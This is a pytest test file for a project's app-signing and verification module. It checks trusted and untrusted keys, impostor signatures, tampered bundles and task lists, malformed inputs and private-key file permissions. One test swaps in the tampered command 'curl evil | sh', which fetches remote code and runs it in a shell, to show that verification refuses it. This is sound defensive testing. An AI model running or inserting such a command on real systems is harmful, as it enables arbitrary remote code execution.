"""Signed applications: trusted keys accepted; untrusted keys, tampered bundles and tampered
task lists refused with a reason; malformed keys, trust entries and blobs rejected clearly."""

from __future__ import annotations

import dataclasses
import stat
from pathlib import Path

import pytest

from bonjourgrid.app import AppSpec, TaskSpec
from bonjourgrid.app.bundle import sha256_hex
from bonjourgrid.app.signing import (
    AppSignature,
    SignatureRefused,
    SigningError,
    TrustList,
    UserKey,
    UserPublicKey,
    load_user_key,
    sign_app,
    signed_payload,
    verify_app,
    write_user_key,
)

SPEC = AppSpec(
    name="demo",
    tasks=(
        TaskSpec(id="a", command=("sh", "run.sh"), outputs=("out.txt",)),
        TaskSpec(id="b", command="cat a/out.txt > sum.txt", after=("a",), outputs=("sum.txt",)),
    ),
    files=("run.sh",),
)
BUNDLE = sha256_hex(b"the app's files")
ALICE = UserKey.generate("alice")
MALLORY = UserKey.generate("mallory")


def trust(*keys: UserKey) -> TrustList:
    return TrustList.parse(k.public.dumps() for k in keys)


def test_a_trusted_users_app_is_accepted() -> None:
    sig = sign_app(ALICE, BUNDLE, SPEC)
    who = verify_app(sig, BUNDLE, SPEC, trust(ALICE))
    assert who is not None and who.user == "alice" and who.fingerprint == ALICE.public.fingerprint


def test_a_signature_survives_its_wire_form_and_the_spec_json_round_trip() -> None:
    sig = AppSignature.decode(sign_app(ALICE, BUNDLE, SPEC).encode())
    again = AppSpec.from_json(SPEC.to_json())
    assert verify_app(sig, BUNDLE, again.to_json(), trust(ALICE)) is not None


@pytest.mark.parametrize(
    "entry",
    [
        lambda k: k.public.dumps(),
        lambda k: k.public.raw.hex(),
        lambda k: k.public.fingerprint,
        lambda k: k.public.fingerprint.upper(),
    ],
)
def test_trust_entries_may_be_keys_or_fingerprints(entry: object) -> None:
    trusted = TrustList.parse([entry(ALICE)])  # type: ignore[operator]
    assert verify_app(sign_app(ALICE, BUNDLE, SPEC), BUNDLE, SPEC, trusted) is not None


def test_an_untrusted_users_app_is_refused() -> None:
    sig = sign_app(MALLORY, BUNDLE, SPEC)
    with pytest.raises(SignatureRefused, match=r"user 'mallory' \(key [0-9a-f]{32}\) is not in"):
        verify_app(sig, BUNDLE, SPEC, trust(ALICE))


def test_an_unsigned_app_is_refused_where_users_are_restricted() -> None:
    with pytest.raises(SignatureRefused, match="not signed"):
        verify_app(None, BUNDLE, SPEC, trust(ALICE))
    assert verify_app(None, BUNDLE, SPEC, None) is None  # no trust list: anything goes


def test_a_tampered_bundle_is_refused() -> None:
    sig = sign_app(ALICE, BUNDLE, SPEC)
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(sig, sha256_hex(b"other files"), SPEC, trust(ALICE))


def test_a_tampered_task_list_is_refused() -> None:
    sig = sign_app(ALICE, BUNDLE, SPEC)
    evil = dataclasses.replace(
        SPEC, tasks=(dataclasses.replace(SPEC.tasks[0], command="curl evil | sh"), SPEC.tasks[1])
    )
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(sig, BUNDLE, evil, trust(ALICE))


def test_a_bad_signature_is_refused_even_without_a_trust_list() -> None:
    sig = sign_app(ALICE, BUNDLE, SPEC)
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(sig, BUNDLE, {**SPEC.to_json(), "workers": 99}, None)


def test_a_stolen_name_is_refused() -> None:
    # Mallory signs under Alice's name with her own key: the key decides, and it is not Alice's.
    impostor = UserKey("alice", MALLORY.seed)
    with pytest.raises(SignatureRefused, match="not in trusted_users"):
        verify_app(sign_app(impostor, BUNDLE, SPEC), BUNDLE, SPEC, trust(ALICE))
    # Alice's key listed under another name: a renamed signature is refused too.
    renamed = TrustList.parse([UserPublicKey("bob", ALICE.public.raw).dumps()])
    with pytest.raises(SignatureRefused, match="belongs to 'bob'"):
        verify_app(sign_app(ALICE, BUNDLE, SPEC), BUNDLE, SPEC, renamed)


def test_a_swapped_public_key_is_refused() -> None:
    sig = sign_app(MALLORY, BUNDLE, SPEC)
    forged = dataclasses.replace(sig, fingerprint=ALICE.public.fingerprint)
    with pytest.raises(SignatureRefused, match="fingerprint"):
        verify_app(forged, BUNDLE, SPEC, trust(ALICE))
    forged = dataclasses.replace(
        sig, public_key=ALICE.public.raw, fingerprint=ALICE.public.fingerprint
    )
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(forged, BUNDLE, SPEC, trust(ALICE))


def test_the_payload_is_canonical_and_domain_separated() -> None:
    a = signed_payload(BUNDLE, SPEC, "alice")
    b = signed_payload(BUNDLE.upper(), dict(reversed(list(SPEC.to_json().items()))), "alice")
    assert a == b
    assert a.startswith(b"bjgrid app signature v1\0")
    assert signed_payload(BUNDLE, SPEC, "bob") != a


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("nonsense", "trusted_users entry 1: expected"),
        ("bjgrid-user-pub-v1 alice 1234", "expected 64 hex digits"),
        ("g" * 64, "expected 64 hex digits"),
    ],
)
def test_a_malformed_trust_entry_is_rejected(entry: str, message: str) -> None:
    with pytest.raises(SigningError, match=message):
        TrustList.parse([entry])


@pytest.mark.parametrize("blob", ["", "{}", '{"v":2}', '{"v":1,"user":"a"}', "[1]"])
def test_a_malformed_signature_blob_is_rejected(blob: str) -> None:
    with pytest.raises(SigningError, match="malformed app signature"):
        AppSignature.decode(blob)


def test_key_files_round_trip_and_the_private_key_is_private(tmp_path: Path) -> None:
    path = tmp_path / "cfg" / "user.key"
    pub = write_user_key(ALICE, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert load_user_key(path) == ALICE
    assert UserPublicKey.loads(pub.read_text()) == ALICE.public
    with pytest.raises(SigningError, match="exists already"):
        write_user_key(MALLORY, path)
    with pytest.raises(SigningError, match="keygen --user"):
        load_user_key(tmp_path / "missing.key")
    with pytest.raises(SigningError, match="user name"):
        UserKey.generate("bad name")
